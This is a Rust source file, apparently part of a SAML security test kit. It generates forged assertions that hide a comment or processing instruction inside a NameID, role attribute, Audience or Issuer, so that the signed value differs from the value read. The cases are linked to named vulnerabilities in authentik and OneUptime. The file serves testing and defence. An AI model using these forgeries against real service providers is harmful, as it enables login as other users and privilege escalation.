//! Attacks with comments and processing instructions that are canonicalized wrongly: written as if they were text, or
//! dropped where they belong. Then the digest is right for another text than the one that is read, and a name is cut.
//!
//! The attacker's own name is the victim's name with a text after or before it, and the message is signed with this
//! name. Then this text is moved into a comment or an instruction.

use super::comment::{SUFFIX, longer};
use super::scene::{Made, Scene};
use super::signature::signed_as_it_stands;
use super::surgery::after;
use super::{Attack, Base, Kind};
use crate::{Attribute, ResponseBuilder, Signed};

const AS_TEXT: &str = "CVE-2026-57580 (authentik)";
const DROPPED: &str = "OneUptime (2025)";

const fn row(
    name: &'static str,
    kind: Kind,
    description: &'static str,
    make: fn(&Scene<'_>) -> Made,
) -> Attack {
    Attack::new(name, kind, description, make).from(Base::Assertion)
}

pub(super) const ATTACKS: &[Attack] = &[
    row(
        "comment/as-text",
        Kind::Comment,
        "NameID \"victim<!--.evil-->\", signed as \"victim.evil\"",
        |scene| cut(scene, scene.message_about(&longer(scene)), &format!("<!--{SUFFIX}-->")),
    )
    .known_as(AS_TEXT),
    row("comment/as-text-response", Kind::Comment, "the same, the Response signed", |scene| {
        cut(scene, scene.message_about(&longer(scene)), &format!("<!--{SUFFIX}-->"))
    })
    .from(Base::Response)
    .known_as(AS_TEXT),
    row(
        "comment/as-text-before",
        Kind::Comment,
        "NameID \"<!--evil.-->victim\", signed as \"evil.victim\"",
        |scene| {
            let name = format!("evil.{}", scene.victim());
            let issued = scene.message_about(&name).issue()?.into_xml();
            let bent = issued.replace(&format!(">{name}<"), &format!("><!--evil.-->{}<", scene.victim()));
            Ok(vec![scene.bent_about(name, bent)])
        },
    )
    .known_as(AS_TEXT),
    row(
        "comment/as-text-attribute",
        Kind::Comment,
        "attribute value \"admin<!--.evil-->\", signed as \"admin.evil\"",
        |scene| role(scene, &format!("<!--{SUFFIX}-->")),
    )
    .known_as(AS_TEXT),
    row(
        "comment/as-text-audience",
        Kind::Comment,
        "Audience \"ours<!--.evil-->\", signed as \"ours.evil\"",
        |scene| audience(scene, &format!("<!--{SUFFIX}-->")),
    )
    .known_as(AS_TEXT),
    row(
        "comment/as-text-issuer",
        Kind::Comment,
        "Issuer \"trusted<!--.evil-->\", signed as \"trusted.evil\"",
        |scene| {
            let trusted = scene.target().identity_provider.entity_id().to_owned();
            let issued = scene.message().issuer(format!("{trusted}{SUFFIX}")).issue()?.into_xml();
            Ok(vec![scene.hostile(cut_at(&issued, &trusted, &format!("<!--{SUFFIX}-->")))])
        },
    )
    .known_as(AS_TEXT),
    row(
        "comment/as-markup",
        Kind::Comment,
        "a signed comment whose text is a NameID of the victim",
        |scene| {
            let unsigned = scene.message().sign(Signed::Neither).issue()?.into_xml();
            let comment = format!("<!--</saml2:NameID><saml2:NameID>{}-->", scene.victim());
            let path = ["Response", "Assertion", "Subject", "NameID"];
            let commented = after(&unsigned, &path, &comment)?;
            Ok(vec![scene.bent(signed_as_it_stands(scene, &commented)?)])
        },
    )
    .known_as(AS_TEXT),
    row(
        "markup/instruction-as-text",
        Kind::Markup,
        "NameID \"victim<?x .evil?>\", signed as \"victim.evil\"",
        |scene| cut(scene, scene.message_about(&longer(scene)), &format!("<?x {SUFFIX}?>")),
    )
    .known_as(DROPPED),
    row(
        "markup/instruction-as-text-attribute",
        Kind::Markup,
        "attribute value \"admin<?x .evil?>\", signed as \"admin.evil\"",
        |scene| role(scene, &format!("<?x {SUFFIX}?>")),
    )
    .known_as(DROPPED),
    row(
        "markup/instruction-as-text-audience",
        Kind::Markup,
        "Audience \"ours<?x .evil?>\", signed as \"ours.evil\"",
        |scene| audience(scene, &format!("<?x {SUFFIX}?>")),
    )
    .known_as(DROPPED),
    row(
        "markup/instruction-dropped",
        Kind::Markup,
        "NameID \"victim<?x?>.evil\", signed as \"victim.evil\"",
        |scene| cut(scene, scene.message_about(&longer(scene)), &format!("<?x?>{SUFFIX}")),
    )
    .known_as(DROPPED),
    row(
        "markup/instruction-dropped-attribute",
        Kind::Markup,
        "attribute value \"admin<?x?>.evil\", signed as \"admin.evil\"",
        |scene| role(scene, &format!("<?x?>{SUFFIX}")),
    )
    .known_as(DROPPED),
    row(
        "markup/instruction-dropped-audience",
        Kind::Markup,
        "Audience \"ours<?x?>.evil\", signed as \"ours.evil\"",
        |scene| audience(scene, &format!("<?x?>{SUFFIX}")),
    )
    .known_as(DROPPED),
    row(
        "markup/instruction-audience",
        Kind::Markup,
        "Audience \"ours<?x?>.evil\", signed in this form",
        |scene| {
            let ours = scene.target().entity_id.clone();
            let message =
                scene.message().audience(format!("{ours}{SUFFIX}")).sign(Signed::Neither).issue()?;
            let split = cut_at(message.xml(), &ours, &format!("<?x?>{SUFFIX}"));
            Ok(vec![scene.hostile(signed_as_it_stands(scene, &split)?)])
        },
    )
    .known_as(DROPPED),
    row(
        "markup/instruction-outside",
        Kind::Markup,
        "an instruction before the genuine Response and after it",
        |scene| {
            let issued = scene.message().issue()?.into_xml();
            let root = super::surgery::root(&issued);
            Ok(vec![scene.bent(format!("<?saml ID=\"x\"?>{root}<?saml ID=\"x\"?>"))])
        },
    ),
];

/// Returns a message in which the end of the name is moved into something else.
fn cut(scene: &Scene<'_>, message: ResponseBuilder, with: &str) -> Made {
    let issued = message.issue()?.into_xml();
    Ok(vec![scene.bent_about(longer(scene), cut_at(&issued, scene.victim(), with))])
}

fn role(scene: &Scene<'_>, with: &str) -> Made {
    let issued = scene.message().attribute(Attribute::new("kit.role", [format!("admin{SUFFIX}")])).issue()?;
    Ok(vec![scene.bent(cut_at(issued.xml(), "admin", with)).forging("admin")])
}

fn audience(scene: &Scene<'_>, with: &str) -> Made {
    let ours = scene.target().entity_id.clone();
    let issued = scene.message().audience(format!("{ours}{SUFFIX}")).issue()?;
    Ok(vec![scene.hostile(cut_at(issued.xml(), &ours, with))])
}

fn cut_at(xml: &str, name: &str, with: &str) -> String {
    xml.replace(&format!(">{name}{SUFFIX}<"), &format!(">{name}{with}<"))
}
